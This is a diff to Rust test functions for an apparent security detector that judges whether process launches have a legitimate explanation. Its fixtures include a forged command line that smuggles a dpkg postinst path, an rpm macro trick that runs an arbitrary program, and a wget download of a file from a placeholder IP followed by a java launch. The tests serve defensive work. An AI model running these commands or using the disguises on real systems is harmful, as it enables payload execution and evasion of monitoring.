@@ -128,6 +128,11 @@ fn what_anybody_can_write_explains_nothing() {
     let forged = "sh -c './a; : /var/lib/dpkg/info/udev.postinst configure'";
     assert!(!explained(ran("/usr/bin/udevadm", "udevadm control", shell, forged)));
     assert!(!explained(ran("/opt/a", "./a", shell, "sh -c ./a;/var/lib/dpkg/info/udev.postinst configure")));
+    // Anybody makes some tools of the system start anything.
+    let mut of_mara = ran("/usr/bin/udevadm", "udevadm control", "/usr/bin/rpm", "rpm --eval %(./a)");
+    assert!(explained(of_mara.clone()));
+    of_mara["fields"]["user"] = "mara".into();
+    assert!(!explained(of_mara));
     // A program that lies where anybody can put one.
     assert!(!explained(ran("/tmp/udevadm", "udevadm control", shell, script)));
     assert!(!explained(ran("/usr/bin/udevadm", "udevadm control", "/home/eve/dpkg", "dpkg --configure -a")));
@@ -218,9 +223,9 @@ fn what_else_somebody_did_explains_nothing() {
 
 #[test]
 fn a_word_beside_what_points_to_an_attack_takes_nothing_from_it() {
-    let alone = ran("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a", "/usr/bin/java", "java -jar a.jar");
-    let worded =
-        ran("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/eicar.com", "/usr/bin/java", "java -jar a.jar");
+    let shell = ("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a", "/usr/bin/java");
+    let alone = ran(shell.0, shell.1, shell.2, "java -jar a.jar");
+    let worded = ran(shell.0, shell.1, shell.2, "java -jar a.jar /var/lib/dpkg/info/udev.postinst configure");
     let found = |rec: Value| {
         let all = told(&[rec]);
         all.iter().map(|f| (f.bearing, f.weight)).max_by_key(|(_, weight)| *weight)
